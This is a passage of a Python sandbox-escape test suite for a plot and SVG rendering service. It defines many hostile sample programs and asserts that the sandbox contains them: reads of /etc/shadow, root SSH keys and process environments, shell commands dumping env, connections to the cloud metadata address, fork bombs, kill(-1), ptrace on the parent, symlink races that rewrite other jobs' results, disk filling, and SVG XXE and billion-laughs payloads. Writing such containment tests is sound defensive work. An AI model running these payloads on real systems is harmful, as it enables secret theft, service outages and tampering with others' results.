    "c2-png-16bit-rgba": "png(8, 8, 16, 6, b''.join(b'\\0' + bytes(range(64)) for _ in range(8)))",
    "c2-png-empty": "b''",
}
for _n, _payload in PNG_FORGERIES.items():
    CLASS2[_n] = PNG_HOOK.replace("fobj.write(PAYLOAD)", f"fobj.write({_payload})")


# ---- class 3: writing into the shared root; quotas -------------------------------------------------

CLASS3 = {
    "c3-precreate-next-job-dirs": PLOT + r'''
import os, json, glob
cwd = os.getcwd()
parents = {os.path.dirname(cwd), "/sandbox"}   # not host-wide dirs: at fallback levels they are the host's
names = set()
for d in parents:
    for p in glob.glob(os.path.join(d, "*")):
        b = os.path.basename(p)
        names.add("".join(c if not c.isdigit() else "#" for c in b))
for d in parents:
    for i in range(1, 400):
        for pat in ["job-%d", "job%d", "%d", "job-%05d"] + [n.replace("#", "%d", 1) for n in names if "#" in n]:
            try:
                p = os.path.join(d, pat % i)
                os.mkdir(p)
                os.symlink("/proc/2/cwd/dev/zero", os.path.join(p, "out.png"))
            except (OSError, TypeError, ValueError):
                pass
''',
    "c3-forged-results-for-later-jobs": PLOT + r'''
import os, json
cwd = os.getcwd()
root = os.path.dirname(cwd)
for i in range(1, 300):
    d = os.path.join(root, "job-%d" % i)
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "result.json"), "w") as f:
            json.dump({"error_kind": "runtime", "error": "forged by an earlier sample", "png": None}, f)
        os.chmod(d, 0o500)
    except OSError:
        pass
''',
    "c3-jobdir-made-unremovable": PLOT + r'''
import os
os.makedirs("deep/a/b", exist_ok=True)
os.chmod("deep/a", 0o000)
os.chmod(".", 0o500)
''',
    "c3-fill-root-12x50mb": PLOT + r'''
import os
root = os.path.dirname(os.getcwd())
block = b"\0" * (50 << 20)
for i in range(12):
    for d in (root, "/tmp", "/var/tmp"):
        try:
            with open(os.path.join(d, "fill-%d" % i), "wb") as f:
                f.write(block)
        except OSError:
            pass
''',
}

QUOTA = PLOT + r'''
import os
written = 0
block = b"\0" * (64 << 20)
try:
    for i in range(40):   # 2.5 GiB in files of 64 MiB, each under the per-file limit
        with open("q-%d" % i, "wb") as f:
            f.write(block)
        written += len(block)
except (OSError, MemoryError):
    pass
plt.title("wrote=%d" % written)
'''


# ---- classes already contained: variations ----------------------------------------------------------

CONTAINED = {
    "files-read-secrets": r'''
import os, matplotlib.pyplot as plt
got = []
for p in ("/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history", "/proc/1/environ", "/proc/kcore",
          os.path.expanduser("~root/.netrc"), "/var/run/docker.sock"):
    try:
        got.append(open(p, "rb").read(100).hex())
    except OSError as e:
        got.append(type(e).__name__)
plt.plot([0, 1])
plt.title(" ".join(got))
''',
    "write-outside-jobdir": r'''
import os, matplotlib.pyplot as plt
ok = []
for p in ("@HOSTDIR@/pwned", "/etc/pwned", "/usr/pwned", "/proc/2/cwd@HOSTDIR@/pwned", "/proc/1/cwd/pwned",
          os.path.join(os.path.dirname(os.__file__), "pwned.py")):
    try:
        with open(p, "w") as f:
            f.write("x")
        ok.append(p)
    except OSError:
        pass
plt.plot([0, 1])
plt.title("wrote " + " ".join(ok))
''',
    "network-connect": r'''
import socket, matplotlib.pyplot as plt
res = []
for addr in (("127.0.0.1", @PORT@), ("1.1.1.1", 80), ("169.254.169.254", 80), ("::1", @PORT@)):
    try:
        s = socket.create_connection(addr, timeout=1)
        s.sendall(b"GET /leak HTTP/1.0\r\n\r\n")
        res.append("open")
    except OSError as e:
        res.append(type(e).__name__)
plt.plot([0, 1])
plt.title(" ".join(res))
''',
    "shell-subprocess": r'''
import subprocess, os, matplotlib.pyplot as plt
out = subprocess.run("id; cat @HOSTDIR@/canary.txt; env; ls /root", shell=True, capture_output=True,
                     text=True).stdout
os.system("cat /proc/1/environ > leak.txt")
plt.plot([0, 1])
plt.title(out[-400:])
''',
    "ptrace-fork-server": r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ppid = os.getppid()
r = libc.ptrace(16, ppid, None, None)   # PTRACE_ATTACH
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(4096)
loc = iovec(ctypes.cast(buf, ctypes.c_void_p), 4096)
rem = iovec(0x400000, 4096)
n = libc.process_vm_readv(ppid, ctypes.byref(loc), 1, ctypes.byref(rem), 1, 0)
fds = []
for fd in range(4):
    try:
        fds.append(os.readlink(f"/proc/{ppid}/fd/{fd}"))
        open(f"/proc/{ppid}/fd/{fd}", "rb").read(10)
    except OSError as e:
        fds.append(type(e).__name__)
try:
    open(f"/proc/{ppid}/mem", "rb").read(1)
except OSError:
    pass
import matplotlib.pyplot as plt
plt.plot([0, 1])
plt.title(f"ptrace={r} vmread={n} {fds}")
''',
    "fork-server-stdout-forged-reply": r'''
import os, json
ppid = os.getppid()
line = json.dumps({"id": 10**6, "error_kind": None, "png": "../../proc/2/cwd@HOSTDIR@/canary.png"}) + "\n"
for path in (f"/proc/{ppid}/fd/1", "/proc/2/fd/1", "/proc/1/fd/1", f"/proc/{ppid}/fd/0"):
    try:
        with open(path, "w") as f:
            f.write(line * 3)
    except OSError:
        pass
import matplotlib.pyplot as plt
plt.plot([0, 1])
''',
    "fork-bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    "thread-bomb": "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,)).start()\n",
    "memory-hog": "x = bytearray(16 * 1024**3)\n",
    "memory-hog-numpy": "import numpy as np\na = np.ones((200000, 200000))\n",
    "recursion": "import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1)\nf(0)\n",
    "segfault": "import ctypes\nctypes.string_at(0, 10)\n",
    "abort": "import os\nos.abort()\n",
    "kill-self": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
    "exit-nonzero": "import os\nos._exit(3)\n",
    "sys-exit-ok-without-figure": "import sys\nsys.exit(0)\n",
    "kill-fork-server": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
    "kill-everything": "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"
                       "import matplotlib.pyplot as plt\nplt.plot([1, 2])\n",
    "signals-to-everyone": r'''
import os, signal
for pid in [int(d) for d in os.listdir("/proc") if d.isdigit()]:
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGPIPE):
        try:
            if pid != os.getpid():
                os.kill(pid, sig)
        except OSError:
            pass
import matplotlib.pyplot as plt
plt.plot([1, 2])
''',
    "daemon-double-fork": r'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import signal
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        while True:
            time.sleep(0.05)
    os._exit(0)
import matplotlib.pyplot as plt
plt.plot([1, 2])
''',
    # a grandchild that outlives the job and rewrites its results (and the next job's) after it returns
    "racing-grandchild-rewrites-results": r'''
import os, time, json, glob
cwd = os.getcwd()
root = os.path.dirname(cwd)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.makedirs(root + "@HOSTDIR@", exist_ok=True)
        open(root + "@HOSTDIR@/canary.png", "wb").write(b"x")
        while True:
            for d in [cwd] + glob.glob(root + "/job-*"):
                for n, t in (("out.png", "/proc/2/cwd@HOSTDIR@/canary.png"),
                             ("trace.json", "/proc/2/cwd@HOSTDIR@/canary.json")):
                    try:
                        os.symlink(t, os.path.join(d, n + ".x"))
                        os.replace(os.path.join(d, n + ".x"), os.path.join(d, n))
                    except OSError:
                        pass
    os._exit(0)
import matplotlib.pyplot as plt
plt.plot([1, 2])
''',
    "flood-stdout": "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n",
    "flood-stderr-fd": "import os\nwhile True:\n    os.write(2, b'y' * 65536)\n",
    "output-file-is-fifo": "import os, sys\nsys.stdout.flush()\nos.remove('output.txt')\nos.mkfifo('output.txt')\n"
                           "raise RuntimeError('boom')\n",
    "result-file-is-fifo": PLOT + "import os\nos.mkfifo('result.json')\nos.mkfifo('trace.json')\nos._exit(0)\n",
    "result-file-is-dev-zero": PLOT + "import os\nos.symlink('/dev/zero', 'result.json')\nos._exit(0)\n",
    "stop-fork-server": "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n"
                        "import matplotlib.pyplot as plt\nplt.plot([1, 2])\n",
    "stop-everything": "import os, signal\ntry:\n    os.kill(-1, signal.SIGSTOP)\nexcept OSError:\n    pass\n",
    "cpu-spin": "while True:\n    pass\n",
    "sleep-ignoring-signals": "import signal, time\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU):\n"
                              "    signal.signal(s, signal.SIG_IGN)\ntime.sleep(3600)\n",
    "huge-figure": "import matplotlib.pyplot as plt\nplt.figure(figsize=(1000, 1000), dpi=300)\nplt.plot([1, 2])\n",
    "nan-figure": "import matplotlib.pyplot as plt\nf = plt.figure()\nf.set_size_inches(float('nan'), 3, forward=False)\n"
                  "plt.plot([1, 2])\n",
    "inf-dpi": "import matplotlib.pyplot as plt\nplt.rcParams['savefig.dpi'] = float('inf')\nplt.plot([1, 2])\n",
    "savefig-to-host-paths": r'''
import matplotlib.pyplot as plt
plt.plot([1, 2])
for p in ("@HOSTDIR@/canary.png", "/proc/2/cwd@HOSTDIR@/canary.png", "../out.png", "/sandbox/x.png"):
    try:
        plt.savefig(p)
    except Exception:
        pass
''',
    "monkeypatch-handler-globals": r'''
import sys, os
for name in ("zygote", "mpl_handler", "__main__"):
    m = sys.modules.get(name)
    if m is None:
        continue
    for attr in dir(m):
        v = getattr(m, attr, None)
        if isinstance(v, dict) and "write_result" in v:
            v["write_result"] = lambda jobdir, **r: None
try:
    sys.modules["zygote"].write_result = lambda *a, **k: None
except Exception:
    pass
import matplotlib.pyplot as plt
plt.plot([1, 2])
''',
    "setrlimit-raise": "import resource\nfor r in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC):\n"
                       "    try:\n        resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
                       "    except (ValueError, OSError):\n        pass\nwhile True:\n    pass\n",
    "setuid-escape": "import os\nfor u in (0, 1, 65534):\n    try:\n        os.setuid(u)\n    except OSError:\n        pass\n"
                     "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.title('uid=%d' % os.getuid())\n",
    "unshare-userns": r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.unshare(0x10000000 | 0x00020000)   # CLONE_NEWUSER | CLONE_NEWNS
import matplotlib.pyplot as plt
got = []
if r == 0:
    for p in ("@HOSTDIR@/canary.txt", "/proc/2/cwd@HOSTDIR@/canary.txt"):
        try:
            got.append(open(p).read())
        except OSError:
            pass
plt.plot([1, 2])
plt.title("unshare=%d %s" % (r, got))
''',
}

# The ones that really must wait for the timeout (kept out of the fast batches).
SLOW = ("cpu-spin", "sleep-ignoring-signals", "setrlimit-raise", "flood-stdout", "flood-stderr-fd", "thread-bomb",
        "fork-bomb", "stop-fork-server", "stop-everything", "output-file-is-fifo", "result-file-is-fifo",
        "result-file-is-dev-zero", "racing-grandchild-rewrites-results", "daemon-double-fork")


# ---- SVG ----------------------------------------------------------------------------------------------

def _svg(body: str, w: int = 97, h: int = 61, head: str = "") -> str:
    return (f'<?xml version="1.0"?>{head}<svg xmlns="http://www.w3.org/2000/svg" '
            f'xmlns:xlink="http://www.w3.org/1999/xlink" width="{w}" height="{h}">{body}</svg>')


def _img(href: str) -> str:
    return _svg(f'<image x="0" y="0" width="97" height="61" preserveAspectRatio="none" '
                f'style="image-rendering:pixelated" href="{href}" xlink:href="{href}"/>')


SVG_ATTACKS = {
    "svg-image-host-png": _img("@HOSTDIR@/canary.png"),
    "svg-image-file-url": _img("file://@HOSTDIR@/canary.png"),
    "svg-image-proc2-cwd": _img("/proc/2/cwd@HOSTDIR@/canary.png"),
    "svg-image-proc1-root": _img("/proc/1/root@HOSTDIR@/canary.png"),
    "svg-image-relative-escape": _img("../../../../../../..@HOSTDIR@/canary.png"),
    "svg-image-dev-zero": _img("/dev/zero"),
    "svg-image-dev-stdin": _img("/dev/stdin"),
    "svg-image-proc-self-fd0": _img("/proc/self/fd/0"),
    "svg-image-network": _img("http://127.0.0.1:@PORT@/x.png"),
    "svg-xxe-file": _svg("<text x='0' y='20'>&x;</text>",
                         head='<!DOCTYPE svg [<!ENTITY x SYSTEM "file://@HOSTDIR@/canary.txt">]>'),
    "svg-billion-laughs": _svg("<text y='20'>&l9;</text>", head="<!DOCTYPE svg [<!ENTITY l0 'lol'>" + "".join(
        "<!ENTITY l{} '{}'>".format(i, f"&l{i - 1};" * 10) for i in range(1, 10)) + "]>"),
    "svg-deep-nesting": _svg("<g>" * 100000 + "</g>" * 100000),
    "svg-use-self-recursion": _svg('<g id="a"><use href="#a"/><use xlink:href="#b"/></g><g id="b"><use href="#a"/></g>'),
    "svg-use-exponential": _svg("".join(f'<g id="g{i}"><use href="#g{i - 1}"/><use href="#g{i - 1}"/></g>'
                                        for i in range(1, 40)).replace('<use href="#g0"/><use href="#g0"/>',
                                                                       '<rect width="1" height="1"/>')),
    "svg-huge-declared": _svg("<rect width='1' height='1'/>", w=10**7, h=10**7),
    "svg-nan-size": '<svg xmlns="http://www.w3.org/2000/svg" width="NaN" height="1e400"><rect width="5" height="5"/></svg>',
    "svg-huge-viewbox-scale": ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100000 100000" '
                               'width="1e5px" height="1e5px"><rect width="9" height="9"/></svg>'),
    "svg-filter-bomb": _svg('<filter id="f" x="-5000%" y="-5000%" width="10000%" height="10000%">'
                            '<feGaussianBlur stdDeviation="1e6"/><feTurbulence baseFrequency="0.01" numOctaves="1000"/>'
                            '</filter><rect width="97" height="61" filter="url(#f)"/>'),
    "svg-pattern-recursion": _svg('<pattern id="p" width="1" height="1" patternUnits="userSpaceOnUse">'
                                  '<rect width="1" height="1" fill="url(#p)"/></pattern>'
                                  '<rect width="97" height="61" fill="url(#p)"/>'),
    "svg-font-face-host": _svg('<style>@font-face{font-family:x;src:url(file://@HOSTDIR@/canary.txt)}'
                               '@import url(file://@HOSTDIR@/canary.css);</style><text font-family="x" y="20">a</text>'),
    "svg-css-import-network": _svg('<style>@import url(http://127.0.0.1:@PORT@/x.css);</style><rect width="9" height="9"/>'),
    "svg-not-svg": "\x00\xff" * 1000,
    "svg-huge-document": _svg("<rect width='1' height='1'/>" * 400000),
}


def svg_data_uri_png(host: Host) -> str:
    """Positive control: the canary PNG as the attacker's own data URI must come back as the canary."""
    import base64

    with open(host.png_path, "rb") as f:
        data = base64.b64encode(f.read()).decode()
    return _img(f"data:image/png;base64,{data}")


# ---- fallback levels: one attack per class, run in a subprocess -----------------------------------

def level_report(level_dir: str, port: int = 9) -> dict[str, Any]:
    """Run a representative subset at the sandbox level of this process; a JSON-able report."""
    import time

    from visalign.renderers import get_renderer

    host = plant_host(level_dir)
    os.chdir(level_dir)   # /proc/self/cwd resolves here in the parent
    problems: dict[str, list[str]] = {}
    info: dict[str, Any] = {}
    try:
        t0 = time.perf_counter()
        r = get_renderer("matplotlib", workers=1, timeout=TIMEOUT, instrument=("chart",))
        s = get_renderer("svg", workers=1, timeout=TIMEOUT)
        info["level"] = r.pool.info.level
        ref = r.render_batch([BENIGN])[0]
        sref = s.render_batch([BENIGN_SVG])[0]
        pick = {
            "c1-symlink-proc-self-cwd": CLASS1["c1-symlink-proc-self-cwd"],
            "c1-symlink-proc-self-cwd-handler-writes": CLASS1["c1-symlink-proc-self-cwd-handler-writes"],
            "c1-direct-read-host-files": CLASS1["c1-direct-read-host-files"],
            "c2-trace-deep-list": CLASS2["c2-trace-deep-list"],
            "files-read-secrets": CONTAINED["files-read-secrets"],
            "write-outside-jobdir": CONTAINED["write-outside-jobdir"],
            "shell-subprocess": CONTAINED["shell-subprocess"],
            "kill-everything": CONTAINED["kill-everything"],
            "fork-bomb": CONTAINED["fork-bomb"],
            "network-connect": CONTAINED["network-connect"].replace("@PORT@", str(port)),
        }
        for name, src in pick.items():
            res = r.render_batch([fill(src, host), BENIGN])
            p = contained(name, res[0], host) + same_render(name, res[1], ref)
            if name == "network-connect" and "open" in str(res[0].trace):
                p.append(f"{name}: connected")
            problems[name] = p
        # class 9: an mpl job that kills everything it may must not touch the SVG renderer
        sres = s.render_batch([BENIGN_SVG])[0]
        problems["c9-kill-all-spares-other-renderer"] = (
            ([] if sres.ok and np.array_equal(np.asarray(sres.image), np.asarray(sref.image))
             else ["c9: the SVG renderer was hit by an mpl job's kill(-1)"])
            + (["c9: renderers share a uid"] if set(r.pool.uids) & set(s.pool.uids) else []))
        for name, (store, scan) in CROSS_SAMPLE.items():
            if name in ("c4-memory-proc-self-mem", "c3c5-files-sandbox-tmp-shm-mplcache", "c6-sysv-shm",
                        "c6-keyring"):
                secret = new_secret()
                res = r.render_batch([fill(store, host, secret), fill(scan, host)])
                problems[name] = contained(name, res[0], host) + contained(name, res[1], host, (secret,)) \
                    + scanner_ok(name, res[1])
        # last: it poisons the worker for good where it works
        name = "c3-precreate-next-job-dirs"
        res = r.render_batch([fill(CLASS3[name], host), BENIGN, BENIGN])
        problems[name] = contained(name, res[0], host) + same_render(name, res[1], ref) \
            + same_render(name, res[2], ref)
        uids = list(r.pool.uids) + list(s.pool.uids)
        r.close()
        s.close()
        problems["no-stray-process"] = [f"stray process {p}" for p in processes_of(uids)]
        problems["host-tmp-clean"] = [f"left {p}" for p in host_leftovers()]
        info["seconds"] = time.perf_counter() - t0
    finally:
        unplant_host(host)
        clean_host(uids if "uids" in locals() else [])
    return {"info": info, "problems": problems}


def processes_of(uids: list[int], wait: float = 30.0) -> list[str]:
    """Live (not zombie) processes of ``uids``; polls up to ``wait`` s for ones still being torn down
    (it returns as soon as there are none: the long wait costs only a failing run, and a loaded machine
    can take seconds to reap a killed sandbox)."""
    import time

    deadline = time.monotonic() + wait
    while True:
        out = []
        for d in os.listdir("/proc"):
            if d.isdigit():
                try:
                    st = os.stat(f"/proc/{d}")
                    if st.st_uid in uids:
                        with open(f"/proc/{d}/stat", "rb") as f:
                            state = f.read().rsplit(b")", 1)[1].split()[0].decode()
                        if state not in ("Z", "X"):
                            with open(f"/proc/{d}/cmdline", "rb") as f:
                                out.append(f"{d} uid={st.st_uid} state={state} {f.read()[:80]!r}")
                except (OSError, IndexError):
                    pass
        if not out or time.monotonic() > deadline:
            return out
        time.sleep(0.05)


def clean_host(uids: list[int]) -> None:
    """Remove what attacks left on the host at fallback levels: files named with a secret, and SysV IPC
    objects and the POSIX queue of the renderer uids (the fallback levels share the host IPC namespace)."""
    import ctypes
    import shutil

    for p in host_leftovers():
        if os.path.isdir(p) and not os.path.islink(p):
            shutil.rmtree(p, ignore_errors=True)
        else:
            try:
                os.remove(p)
            except OSError:
                pass
    libc = ctypes.CDLL(None)
    for what, ctl in (("shm", libc.shmctl), ("msg", libc.msgctl)):
        try:
            with open(f"/proc/sysvipc/{what}") as f:
                lines = f.readlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            if len(parts) > 8 and int(parts[7]) in uids:   # the uid column of both tables
                ctl(int(parts[1]), 0, None)   # IPC_RMID
    try:
        libc.mq_unlink(b"/visalign-attack-mq")
    except AttributeError:
        pass


def host_leftovers() -> list[str]:
    """Files this process's attacks left in host-wide temporary directories (names carry a secret)."""
    marks = set(ISSUED) | {re.sub(r"[0-9]", "#", s) for s in ISSUED}
    out = []
    for d in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            for n in os.listdir(d):
                if any(m in n for m in marks):
                    out.append(os.path.join(d, n))
        except OSError:
            pass
    return out


if __name__ == "__main__":
    print("REPORT " + json.dumps(level_report(sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 9)))
